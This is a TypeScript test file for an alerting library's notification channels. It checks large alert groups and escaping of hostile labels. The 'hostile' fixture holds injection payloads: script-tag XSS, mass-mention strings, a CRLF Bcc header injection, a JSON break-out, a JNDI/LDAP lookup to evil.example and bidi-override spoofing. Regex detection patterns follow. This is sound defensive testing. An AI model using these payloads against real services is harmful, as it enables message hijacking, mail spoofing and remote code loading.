import { manualClock } from '@tidewatch/core/testing';
import { describe, expect, it } from 'vitest';
import { alertmanager } from '../../src/channels/alertmanager.ts';
import { email, type Mail } from '../../src/channels/email.ts';
import { pagerduty } from '../../src/channels/pagerduty.ts';
import { aliyunSms } from '../../src/channels/sms.ts';
import { sampleAlert, sampleNotification } from '../../src/testing/sample-notification.ts';
import { serviceKinds, tellHugeGroup, type Fetch, type ServiceKind } from './huge-group.ts';
import { MINUTE, START } from './rig.ts';

// The long form, 5,000 alerts for each: test/integration.
it.for([
  ['dingtalk', 600],
  ['feishu', 600],
  ['wecom', 200],
  ['slack', 600],
  ['webhook', 600],
] as const)(
  'R21 %s, one group of %i alerts, each with an annotation of a megabyte: no body is too large or broken, none is missing',
  async ([name, alerts]) => {
    const { missing, mostBytes, broken } = await tellHugeGroup(name, alerts);
    expect({ missing, broken }).toEqual({ missing: [], broken: [] });
    expect(mostBytes).toBeLessThanOrEqual(serviceKinds[name]?.limit ?? 0);
  },
);

const hostile = {
  markup: '# big **bold** [a](https://evil.example) <b>x</b> <script>alert(1)</script> `code` | ~s~',
  everybody: '@all @everyone <!channel> <!here> <@U1> <at user_id="all"></at> <at id=all></at> @10000000000',
  lines: 'a\r\nBcc: victim@example.org\r\n\r\nb\u2028c\u0000d',
  json: '"},"at":{"isAtAll":true},"x":{"y":"\\',
  jndi: '${jndi:ldap://evil.example/a} {{ .Secret }} %s %n',
  marks: '\u202Etxt.exe\u202C \u200F\u2066x\u2069',
  alertname: 'x" onload="alert(1)\r\nSubject: other @all **y**',
};

/** What a message must never hold unharmed, by service. */
const forbidden: Readonly<Record<string, readonly RegExp[]>> = {
  dingtalk: [/@all/, /@10000000000/, /(?<!\\)\[a\]\(/, /(?<!\\)<script/],
  feishu: [/<at\b/, /<script/, /(?<!\\)\[a\]\(https/],
  wecom: [/<@/, /@all/, /\[a\]\(/, /<script/],
  slack: [/<!/, /<@/, /<script/],
};

const texts = (json: unknown): string[] =>
  typeof json === 'string' ? [json] : Object.values(Object(json)).flatMap(texts);

describe('R22 labels and annotations that want to be more than text', () => {
  const notification = sampleNotification({
    alerts: [sampleAlert({ labels: { ...hostile, severity: 'critical' }, annotations: hostile })],
  });
  const stop = new AbortController().signal;

  async function bodyOf(
    create: ServiceKind['create'],
    answer: ServiceKind['answer'],
    parts = {},
  ): Promise<string> {
    let body = '';
    const fetch = (async (_, init) => {
      body = init?.body as string;
      return new Response(answer[1], { status: answer[0] });
    }) as Fetch;
    const channel = create({ fetch, clock: manualClock(START + 10 * MINUTE) });
    expect((await channel.send({ ...notification, ...parts }, stop)).status).toBe('sent');
    return body;
  }

  it.for(Object.keys(forbidden).flatMap((name) => [[name, 'full'] as const, [name, 'plain'] as const]))(
    'R22 %s, %s: nobody is called, nothing is linked, the JSON is whole',
    async ([name, form]) => {
      const { create, answer } = serviceKinds[name] as ServiceKind;
      const body = await bodyOf(create, answer, { plain: form === 'plain' });
      const json = JSON.parse(body) as { at?: { isAtAll?: boolean } };
      expect(json.at?.isAtAll ?? false).toBe(false);
      // The title is a preview, which formats nothing.
      for (const text of texts(json)) {
        for (const pattern of forbidden[name] ?? []) expect(text).not.toMatch(pattern);
      }
    },
  );

  it('R22 a mail has the headers that it should have, and no markup from outside', async () => {
    const mails: Mail[] = [];
    const transport = { sendMail: async (mail: Mail) => (mails.push(mail), {}) };
    const channel = email({ from: 'w@example.org', to: 'a@example.org', transport });
    expect((await channel.send(notification, stop)).status).toBe('sent');
    const [mail] = mails;
    expect(mail?.subject).not.toMatch(/[\r\n\u2028]|\p{Cc}/u);
    expect(mail?.messageId).toMatch(/^<[0-9a-f]{32}@example\.org>$/);
    expect(mail?.html).not.toMatch(/<script|<b>x|onload="/);
    expect(mail?.html.match(/<a /g)).toBeNull();
  });

  it('R22 machines get the labels as they are, in JSON that is whole', async () => {
    const { create, answer } = serviceKinds['webhook'] as ServiceKind;
    const { alerts } = JSON.parse(await bodyOf(create, answer)) as { alerts: { labels: object }[] };
    expect(alerts[0]?.labels).toEqual({ ...hostile, severity: 'critical' });
    const pushed = JSON.parse(
      await bodyOf((parts) => alertmanager({ url: 'https://am.example', ...parts }), [200, '']),
    ) as { labels: object }[];
    expect(pushed[0]?.labels).toEqual({ ...hostile, severity: 'critical' });
    const event = JSON.parse(
      await bodyOf((parts) => pagerduty({ routingKey: 'r'.repeat(32), ...parts }), [202, '']),
    ) as { dedup_key: string; event_action: string };
    expect(event).toMatchObject({
      event_action: 'trigger',
      dedup_key: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it('R22 an SMS has no address in its variables, and one line', async () => {
    let url = 'https://h';
    const channel = aliyunSms({
      accessKeyId: 'id',
      accessKeySecret: 's',
      signName: 'Tidewatch',
      templateCode: 'SMS_1',
      phoneNumbers: ['+8610000000001'],
      maxVariableLength: 35,
      fetch: async (address) => {
        ({ url } = new Request(address));
        return new Response('{"Code":"OK"}');
      },
    });
    expect((await channel.send(notification, stop)).status).toBe('sent');
    const { name } = JSON.parse(new URL(url).searchParams.get('TemplateParam') ?? '{}') as { name?: string };
    expect(name).toBeDefined();
    expect(name).not.toMatch(/[\r\n]|https?:/);
    expect(Array.from(name ?? '').length).toBeLessThanOrEqual(35);
  });
});
